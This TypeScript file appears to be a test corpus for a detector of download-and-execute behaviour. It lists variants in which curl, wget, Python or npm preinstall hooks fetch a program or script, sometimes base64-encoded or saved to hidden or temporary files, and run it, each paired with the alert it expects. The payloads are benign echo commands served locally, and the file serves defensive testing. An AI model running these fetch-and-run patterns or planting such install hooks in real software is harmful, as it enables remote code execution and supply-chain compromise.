import assert from "node:assert/strict";
import { readFileSync, rmSync } from "node:fs";
import type { Traced } from "../traced_job.ts";
import type { Variant } from "../variant.ts";
import { server } from "../web_server.ts";

const happened = ({ stdout }: Traced) => assert.match(stdout, /^fetched and ran$/m);
const behaviour = "download_execute";
const { at, prepare } = server(() => ({
  "/echo": readFileSync("/bin/echo"),
  "/x.sh": "echo fetched and ran\n",
  "/x.b64": `${Buffer.from("echo fetched and ran\n").toString("base64")}\n`,
}));
const temporary = `/tmp/jobwarden-corpus-${process.pid}`;
async function prepareTemporary() {
  const close = await prepare();
  return () => {
    close();
    rmSync(temporary, { force: true });
  };
}

const hook = (script: string) =>
  JSON.stringify({ name: "x", version: "1.0.0", scripts: { preinstall: script } });

export const variants: Variant[] = [
  {
    name: "curl pipes a script into a shell",
    prepare,
    command: () => ["sh", "-c", `curl -s ${at.url}/x.sh | sh`],
    happened,
    found: {
      ...{ signature: "JW-162", severity: "low", behaviour, program: "/dash" },
      message: /through a pipe from a download/,
    },
  },
  {
    name: "a script arrives encoded, and is decoded on its way into the shell",
    prepare,
    command: () => ["bash", "-c", `curl -s ${at.url}/x.b64 | base64 -d | bash`],
    happened,
    found: {
      ...{ signature: "JW-162", severity: "high", behaviour, program: "/bash" },
      message: /a decoded download/,
    },
  },
  {
    name: "wget fetches a program into a temporary directory, where it runs",
    prepare: prepareTemporary,
    command: () => [
      ...["sh", "-c"],
      `wget -qO ${temporary} ${at.url}/echo && chmod +x ${temporary} && ${temporary} fetched and ran`,
    ],
    happened,
    found: {
      ...{ signature: "JW-161", severity: "low", behaviour, program: temporary },
      message: /fetched from the network in a temporary place/,
    },
  },
  {
    name: "python fetches a program into a hidden file and runs it",
    prepare,
    command: () => [
      ...["/usr/bin/python3", "-c"],
      `import os, urllib.request
open(".x", "wb").write(urllib.request.urlopen("${at.url}/echo").read())
os.chmod(".x", 0o755)
os.system("./.x fetched and ran")`,
    ],
    happened,
    found: {
      ...{ signature: "JW-161", severity: "high", behaviour, program: "/.x" },
      message: /fetched from the network in a hidden place/,
    },
  },
  {
    name: "the hook of a package fetches another runtime and runs it",
    prepare,
    command: () => [
      ...["sh", "-c"],
      `cat >package.json <<'X'
${hook(`curl -so bun ${at.url}/echo && chmod +x bun && ./bun fetched and ran`)}
X
npm install --offline --foreground-scripts`,
    ],
    happened,
    found: {
      ...{ signature: "JW-161", severity: "high", behaviour, program: "/bun" },
      message: /fetched from the network/,
    },
  },
  {
    name: "the hook of a package pipes a download into a shell",
    prepare,
    command: () => [
      ...["sh", "-c"],
      `cat >package.json <<'X'
${hook(`curl -s ${at.url}/x.sh | sh`)}
X
npm install --offline --foreground-scripts`,
    ],
    happened,
    found: {
      ...{ signature: "JW-162", severity: "high", behaviour, program: "sh" },
      message: /a download/,
    },
  },
];
